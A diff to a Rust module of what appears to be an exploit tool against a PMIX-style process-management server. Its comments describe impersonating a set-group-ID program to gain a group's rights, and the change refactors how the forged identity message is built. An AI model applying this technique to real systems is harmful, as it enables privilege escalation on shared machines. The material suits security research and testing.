@@ -1,6 +1,6 @@
 //! Membership of a group by a program that has its rights. The attacker hands its socket to a program with the set-group-ID bit, as
 //! standard input, and tells the server that this is the process that speaks.
-use super::tool;
+use super::{own_user, tool};
 use crate::raw::encoded;
 use anyhow::{Context, Result};
 use peal_model::{Info, Value, key};
@@ -27,7 +27,7 @@ pub fn attack(server: SocketAddr, program: &str, group: u32) -> Result<()> {
 }
 
 fn says_who(stream: &mut TcpStream, pid: u32, group: u32) -> Result<&'static str> {
-    let mut hello = tool(User { uid: rustix::process::geteuid().as_raw(), gid: group }, "borrower");
+    let mut hello = tool(User { gid: group, ..own_user() }, "borrower");
     hello.infos.push(Info::new(key::PMIX_PROC_PID, Value::Pid(pid)));
     stream.set_read_timeout(Some(Duration::from_secs(30)))?;
     stream.write_all(&encoded(&hello))?;
